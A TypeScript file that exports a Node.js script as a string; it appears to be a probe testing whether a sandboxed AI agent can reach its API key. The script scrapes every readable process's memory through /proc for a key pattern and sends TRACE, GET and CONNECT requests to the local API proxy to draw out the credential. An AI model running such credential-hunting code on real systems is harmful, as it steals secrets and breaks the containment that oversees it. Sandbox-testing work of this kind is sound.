/** Looks through the memory of every process that it may read, and asks what it finds on its way out for the credential. */
export const HUNT = `
import { closeSync, openSync, readFileSync, readSync, readdirSync } from 'node:fs';
import { connect } from 'node:net';
const wanted = /sk-ant-made-up-[0-9a-f]{8}-[0-9a-f-]{27}/;
const found = [];
for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
  try {
    const memory = openSync('/proc/' + pid + '/mem', 'r');
    for (const line of readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (parseInt(to, 16) - parseInt(from, 16) > 2 ** 30) continue;
      for (let at = parseInt(from, 16); at < parseInt(to, 16); at += 1 << 22) {
        try {
          const block = Buffer.alloc(Math.min((1 << 22) + 64, parseInt(to, 16) - at));
          const text = block.subarray(0, readSync(memory, block, 0, block.length, at)).toString('latin1');
          if (wanted.test(text)) found.push('memory of ' + pid + ': ' + wanted.exec(text)[0]);
        } catch {}
      }
    }
    closeSync(memory);
  } catch {}
}
const ask = (port, text) => new Promise((resolve) => {
  let answer = '';
  const socket = connect(port, '127.0.0.1', () => socket.end(text));
  socket.setTimeout(2000, () => socket.destroy());
  socket.on('data', (part) => (answer += part)).on('close', () => resolve(answer)).on('error', () => resolve(answer));
});
const base = new URL(process.env.ANTHROPIC_BASE_URL);
const head = (line) => line + ' HTTP/1.1\\r\\nHost: ' + base.host + '\\r\\nConnection: close\\r\\n\\r\\n';
for (const port of [base.port, '3128'])
  for (const text of [head('TRACE /v1/messages'), head('GET /v1/models'), head('CONNECT ' + base.host), head('GET http://' + base.host + '/')])
    found.push(await ask(Number(port), text));
console.log(found.join('\\n'), 'HUNTED');
`;
